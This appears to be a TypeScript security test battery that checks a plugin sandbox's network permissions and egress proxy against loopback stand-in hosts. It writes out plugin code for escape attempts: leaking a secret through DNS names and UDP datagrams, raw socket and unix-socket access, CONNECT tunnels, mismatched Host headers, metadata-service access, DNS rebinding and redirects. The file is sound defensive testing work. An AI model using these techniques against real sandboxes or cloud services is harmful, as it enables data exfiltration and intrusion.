import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer as createHttpServer } from 'node:http';
import { connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import { type Aim, type Attempt, runBattery, type Scene, tells } from './battery.ts';

/** Nothing tells that a packet did not come; on loopback one arrives within microseconds. */
const ARRIVAL_MS = 50;

/** Stand-ins for the world: addresses of loopback that count as public or private for the egress proxy. */
const PUBLIC = '127.0.0.3';
const METADATA = '127.0.0.169';
/** Answers of the resolver by name; a list is what it answers one time after the other. */
const NAMES: Record<string, readonly string[]> = {
  'declared.test': [PUBLIC],
  'undeclared.test': [PUBLIC],
  'metadata.test': [METADATA],
  'rebinding.test': [PUBLIC, METADATA],
};
const asked: string[] = [];

const egress = {
  resolver: (host: string): Promise<readonly string[]> => {
    const times = asked.filter((name) => name === host).length;
    asked.push(host);
    const answers = NAMES[host];
    if (answers === undefined) return Promise.reject(new Error('no such name'));
    return Promise.resolve([answers[Math.min(times, answers.length - 1)] ?? PUBLIC]);
  },
  isPublic: (address: string): boolean => address === PUBLIC,
};

interface Listener {
  readonly port: number;
  /** How many connections came. */
  readonly count: () => number;
}

async function listen(scene: Scene, address: string | { path: string }): Promise<Listener> {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.on('error', () => {});
    socket.end(
      `HTTP/1.1 200 OK\r\nContent-Length: ${scene.nonce.length}\r\nConnection: close\r\n\r\n${scene.nonce}`,
    );
  });
  if (typeof address === 'string') server.listen(0, address);
  else server.listen(address.path);
  await once(server, 'listening');
  scene.resources.defer(() => void server.close());
  const bound = server.address();
  return { port: typeof bound === 'object' && bound !== null ? bound.port : 0, count: () => connections };
}

/** Ports of the listeners of a scene: the one aimed at first, and where that leads on to. */
const ports = new WeakMap<Scene, number>();
const others = new WeakMap<Scene, number>();
const declared = (scene: Scene, host: string) => ({
  permissions: { net: [`${host}:${ports.get(scene) ?? 1}`] },
});

/** Connects with plain TCP, past every proxy setting, and reads what comes. */
const tcp = (host: string, port: number): string => `
  return new Promise((resolve, reject) => {
    let text = '';
    require('node:net').connect(${port}, '${host}').on('error', reject)
      .on('data', (chunk) => { text += chunk }).on('close', () => resolve(text));
  })`;
const get = (url: string): string =>
  `const answer = await fetch('${url}'); return [answer.status, await answer.text()]`;
/** Speaks to the proxy itself, as it likes. */
const viaProxy = (request: string): string => `
  return new Promise((resolve, reject) => {
    let text = '';
    const socket = require('node:net').connect(process.env.NEXUS_EGRESS_SOCKET);
    socket.on('error', reject).on('data', (chunk) => { text += chunk }).on('close', () => resolve(text));
    socket.write(${JSON.stringify(request)});
    setTimeout(() => socket.end(), 500);
  })`;

async function aimAt(scene: Scene, address: string, code: (port: number) => string): Promise<Aim> {
  const listener = await listen(scene, address);
  ports.set(scene, listener.port);
  return { code: code(listener.port), happened: () => listener.count() > 0 };
}

const attempts: Attempt[] = [
  {
    name: 'connect to a service of this machine',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '127.0.0.1', (port) => tcp('127.0.0.1', port)),
    grant: (scene) => declared(scene, '127.0.0.1'),
  },
  {
    name: 'connect to it on another address of loopback',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '127.9.8.7', (port) => tcp('127.9.8.7', port)),
    grant: (scene) => declared(scene, '127.9.8.7'),
  },
  {
    name: 'connect to it over IPv6',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '::1', (port) => tcp('::1', port)),
    grant: (scene) => declared(scene, '[::1]'),
  },
  {
    name: 'connect with no system call of the socket library in between',
    dimension: 'network',
    language: 'python',
    aim: async (scene) => {
      const listener = await listen(scene, '127.0.0.1');
      return {
        code: `import socket\nresult = socket.create_connection(('127.0.0.1', ${listener.port}), 5).recv(100).decode()`,
        happened: () => listener.count() > 0,
      };
    },
  },
  {
    name: 'fetch from an undeclared host',
    dimension: 'network',
    aim: (scene) => aimAt(scene, PUBLIC, (port) => get(`http://undeclared.test:${port}/`)),
    grant: (scene) => declared(scene, 'undeclared.test'),
  },
  {
    name: 'carry a secret out in a name to be resolved',
    dimension: 'network',
    aim: async ({ nonce }) => ({
      code: `require('node:dns').lookup('${nonce}.test', () => {});
        await fetch('http://${nonce}.test/').catch(() => {})`,
      happened: () => asked.includes(`${nonce}.test`),
    }),
    grant: ({ nonce }) => ({ permissions: { net: [`${nonce}.test:80`] } }),
  },
  {
    name: 'carry a secret out in a datagram',
    dimension: 'network',
    language: 'python',
    aim: async ({ nonce, resources }) => {
      const socket = createSocket('udp4');
      let received = '';
      socket.on('message', (message) => void (received += message.toString()));
      socket.bind(0, '127.0.0.1');
      await once(socket, 'listening');
      resources.defer(() => void socket.close());
      return {
        code: `import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'${nonce}', ('127.0.0.1', ${socket.address().port}))`,
        happened: async () => {
          await setTimeout(ARRIVAL_MS);
          return received.includes(nonce);
        },
      };
    },
  },
  {
    name: 'ask a name server itself',
    dimension: 'network',
    aim: async ({ nonce, resources }) => {
      const socket = createSocket('udp4');
      let received = '';
      socket.on('message', (message) => void (received += message.toString('latin1')));
      socket.bind(0, '127.0.0.1');
      await once(socket, 'listening');
      resources.defer(() => void socket.close());
      return {
        code: `const { Resolver } = require('node:dns').promises;
          const resolver = new Resolver({ timeout: 200, tries: 1 });
          resolver.setServers(['127.0.0.1:${socket.address().port}']);
          await resolver.resolve4('${nonce}.test')`,
        happened: async () => {
          await setTimeout(ARRIVAL_MS);
          return received.includes(nonce);
        },
      };
    },
  },
  {
    name: 'listen where others of this machine can connect',
    dimension: 'network',
    aim: () => ({
      code: `return new Promise((resolve, reject) => {
        const server = require('node:net').createServer().on('error', reject);
        server.listen(0, '127.0.0.1', () => resolve(server.address().port));
      })`,
      happened: async ({ value }) => {
        if (typeof value !== 'number') return false;
        const socket = connect(value, '127.0.0.1');
        const [outcome] = await Promise.race([
          once(socket, 'connect').then(() => [true]),
          once(socket, 'error').then(() => [false]),
        ]).catch(() => [false]);
        socket.destroy();
        return outcome === true;
      },
    }),
  },
  {
    name: 'command a service through its unix socket',
    dimension: 'network',
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({ permissions: { fs: { read: [], write: [join(outside, 'service.sock')] } } }),
  },
  {
    name: 'command it through a directory granted for reading',
    dimension: 'network',
    base: ({ outside }) => ({ permissions: { fs: { read: [outside], write: [] } } }),
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({ permissions: { fs: { read: [], write: [join(outside, 'service.sock')] } } }),
  },
  {
    name: 'reach a service through its abstract socket',
    dimension: 'network',
    language: 'python',
    base: () => ({ permissions: { exec: true } }),
    aim: async (scene) => {
      const listener = await listen(scene, { path: `\0${scene.nonce}` });
      return {
        code: `import socket
service = socket.socket(socket.AF_UNIX); service.connect('\\0${scene.nonce}'); result = service.recv(100).decode()`,
        happened: () => listener.count() > 0,
      };
    },
  },
  // From here on the plugin has a network permission, and is after more.
  {
    name: 'another host than the declared one',
    dimension: 'network',
    base: (scene) => declared(scene, 'declared.test'),
    aim: (scene) => aimAt(scene, PUBLIC, (port) => get(`http://undeclared.test:${port}/`)),
    grant: (scene) => declared(scene, 'undeclared.test'),
  },
  {
    name: 'another port of the declared host',
    dimension: 'network',
    base: () => ({ permissions: { net: ['declared.test:1'] } }),
    aim: (scene) => aimAt(scene, PUBLIC, (port) => get(`http://declared.test:${port}/`)),
    grant: (scene) => declared(scene, 'declared.test'),
  },
  {
    name: 'the address of the declared host under no name',
    dimension: 'network',
    base: (scene) => declared(scene, 'declared.test'),
    aim: (scene) => aimAt(scene, PUBLIC, (port) => tcp(PUBLIC, port)),
    grant: (scene) => declared(scene, PUBLIC),
  },
  {
    name: 'another host by a tunnel of its own making',
    dimension: 'network',
    base: (scene) => declared(scene, 'declared.test'),
    aim: (scene) =>
      aimAt(scene, PUBLIC, (port) =>
        viaProxy(
          `CONNECT undeclared.test:${port} HTTP/1.1\r\nHost: declared.test:${port}\r\n\r\nGET / HTTP/1.1\r\n\r\n`,
        ),
      ),
    grant: (scene) => declared(scene, 'undeclared.test'),
  },
  {
    name: 'another host by a request line that disagrees with its Host header',
    dimension: 'network',
    base: (scene) => declared(scene, 'declared.test'),
    aim: (scene) =>
      aimAt(scene, PUBLIC, (port) =>
        viaProxy(`GET http://undeclared.test:${port}/ HTTP/1.1\r\nHost: declared.test:${port}\r\n\r\n`),
      ),
    grant: (scene) => declared(scene, 'undeclared.test'),
  },
  {
    name: 'the metadata service, under a declared name or none',
    dimension: 'network',
    base: (scene) => declared(scene, 'metadata.test'),
    aim: (scene) =>
      aimAt(
        scene,
        METADATA,
        (port) => `await fetch('http://metadata.test:${port}/').catch(() => {});
          ${get(`http://${METADATA}:${port}/`)}`,
      ),
    grant: (scene) => declared(scene, METADATA),
  },
  {
    name: 'the metadata service, under a declared name that is rebound after the first answer',
    dimension: 'network',
    base: (scene) => declared(scene, 'rebinding.test'),
    aim: (scene) =>
      aimAt(scene, METADATA, (port) => {
        asked.length = 0;
        return `const tries = [];
          for (let n = 0; n < 3; n++) {
            tries.push(await fetch('http://rebinding.test:${port}/').then((answer) => answer.status, String));
          }
          tries.push(await fetch('http://${METADATA}:${port}/').then((answer) => answer.status, String));
          return tries`;
      }),
    grant: (scene) => declared(scene, METADATA),
  },
  {
    name: 'another host by a redirect of the declared one',
    dimension: 'network',
    base: (scene) => declared(scene, 'declared.test'),
    aim: async (scene) => {
      const target = await listen(scene, PUBLIC);
      const server = createHttpServer((_request, response) => {
        response.writeHead(302, { Location: `http://undeclared.test:${target.port}/` }).end();
      }).listen(0, PUBLIC);
      await once(server, 'listening');
      scene.resources.defer(() => void server.close());
      const bound = server.address();
      const port = typeof bound === 'object' && bound !== null ? bound.port : 0;
      ports.set(scene, port);
      others.set(scene, target.port);
      return {
        code: get(`http://declared.test:${port}/`),
        happened: (answer) => target.count() > 0 && tells(answer, scene.nonce),
      };
    },
    grant: (scene) => ({
      permissions: { net: [`declared.test:${ports.get(scene)}`, `undeclared.test:${others.get(scene)}`] },
    }),
  },
];

await runBattery(attempts, { egress });
